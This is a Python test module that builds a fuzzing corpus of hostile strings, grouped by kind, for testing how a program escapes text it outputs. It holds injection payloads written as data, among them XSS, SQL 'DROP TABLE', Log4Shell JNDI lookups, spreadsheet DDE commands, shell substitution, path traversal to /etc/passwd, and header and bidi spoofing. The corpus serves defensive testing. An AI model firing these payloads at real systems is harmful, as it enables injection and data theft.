"""Text that means harm somewhere: one corpus for every place where text leaves the program."""

import random
from typing import Final

from hypothesis import strategies as st

CORPUS: Final[dict[str, tuple[str, ...]]] = {
    "escapes": (
        "\x1b[2J\x1b]0;owned\x07Dana",
        "\x9b31mDana\x85",
        "\x1b]8;;http://example.net\x07Dana\x1b]8;;\x07",
        "Da\x08na\x7f",
    ),
    "bidi": ("Dana\u202egnp.exe\u2066", "Ana \u202egro.elpmaxe\u202c \u2066x\u2069", "\u061cDana\u200f\u200e"),
    "formulas": (
        '=HYPERLINK("http://example.net";"Dana")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1",
        "-2+3",
        "\t=1+1",
        "＝4",
        " =1",
    ),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</title><hostile>",
        "&lt;b&gt;",
        "<!--",
        "]]>",
        "javascript:alert(1)",
    ),
    "lines": (
        "Dana\r\nBcc: everybody@example.net\r\n\r\nforged",
        "Dana\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:Eve\nEND:VCARD",
        "Dana\r\nEND:VALARM\r\nATTENDEE:mailto:eve@example.net",
        "Ana\r\nContact 9: forged <a@b.example>",
        "Ana\u2028forged\u2029line\x85next\x0b\x0c",
    ),
    "nothing": ("", " ", "\x00", "Ana\x00Sousa", "\ufeff", "\u200b\u200d\u2060"),
    "overlong": ("x" * 5_000, "Ana " + "very long " * 400, "A" + "\u0301" * 60, "😀" * 500, "é" * 300 + "\n"),
    "look-alikes": ("аna.sоusa", "ｄａｎａ", "pаypal", "Ⅰ1lI|", "Dana\u00ad\u200bOsei", "ﬁ ß İı"),
    "templates": (
        "{{ 7*7 }}",
        "{% include '/etc/passwd' %}",
        "${jndi:ldap://example.net/a}",
        "%s%n {0.__class__}",
        "[bold]Dana[/bold]",
    ),
    "paths": (
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "CON",
        "nul.txt",
        "a/b:c*?|",
        ".",
        "..",
        "~root",
        "-rf",
    ),
    "quotes": (
        '","Eve","","',
        "'; DROP TABLE contacts; --",
        "\\n\\,\\;\\\\ ^n ^' ^^ %0A &amp; =0D=0A",
        "=?utf-8?q?fake?=",
        "`id`$(id)",
    ),
    "halves": ("Dana\ud800", "\udcff\udc80", "\U000e0041\U000e0042 tag", "\uffff\ufffe\U0010ffff"),
}
"""By what they are meant to do."""
EVERY: Final = tuple(text for texts in CORPUS.values() for text in texts)

texts = st.lists(st.sampled_from(EVERY) | st.text(max_size=20), min_size=1, max_size=3).map("".join)
"""Some of it, alone or run together with any other text."""


def mixed(chance: random.Random) -> str:
    """Return pieces of the corpus, whole or cut, between characters of any kind."""
    parts = []
    for _ in range(chance.choice((1, 1, 2, 4))):
        piece = chance.choice(EVERY)
        parts.append(piece[: chance.randrange(len(piece) + 1)] if chance.random() < 0.3 else piece)
        parts.append(
            "".join(chr(chance.choice((chance.randrange(0x250), chance.randrange(0x110000)))) for _ in range(3))
        )
    return "".join(parts)
